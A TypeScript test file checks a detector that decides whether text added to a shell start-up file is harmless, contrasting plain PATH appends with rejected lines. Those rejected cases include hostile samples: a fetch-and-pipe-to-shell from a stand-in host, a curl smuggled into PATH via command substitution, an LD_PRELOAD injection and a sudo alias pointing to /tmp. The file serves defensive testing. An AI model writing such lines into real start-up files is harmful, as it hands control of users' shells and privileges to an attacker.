import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isHarmlessStartUp } from '../../../engine/detect/paths/startUpText.ts';

describe('text for a shell start-up file', () => {
  const harmless = [
    'export PATH=$PATH:/usr/local/go/bin',
    'export PATH="$PATH:$HOME/.local/bin"',
    'PATH="${PATH}:/opt/tool/bin:~/.cargo/bin"\nexport LANG=en_US.UTF-8',
    '# Go\nexport GOPATH=$HOME/go\n\nexport PATH=$PATH:$GOPATH/bin # and its programs',
  ];
  for (const text of harmless)
    it(`is harmless: ${text.slice(0, 50)}`, () => assert.equal(isHarmlessStartUp(text), true));

  const telling = [
    'export PATH=/opt/tool/bin:$PATH',
    'export PATH=$PATH:/tmp/bin',
    'export PATH=$PATH:$HOME/.cache/x',
    'export PATH=$PATH:/usr/bin; curl https://x.example.org | sh',
    'export PATH="$PATH:$(curl x)"',
    'export JAVA_HOME=/tmp/jdk',
    'export LD_PRELOAD=/usr/lib/x.so',
    'export EDITOR=/home/dev/x',
    "alias sudo='/tmp/s'",
    'source ~/x.sh',
    '',
  ];
  for (const text of telling) it(`is not: ${text.slice(0, 50)}`, () => assert.equal(isHarmlessStartUp(text), false));
});
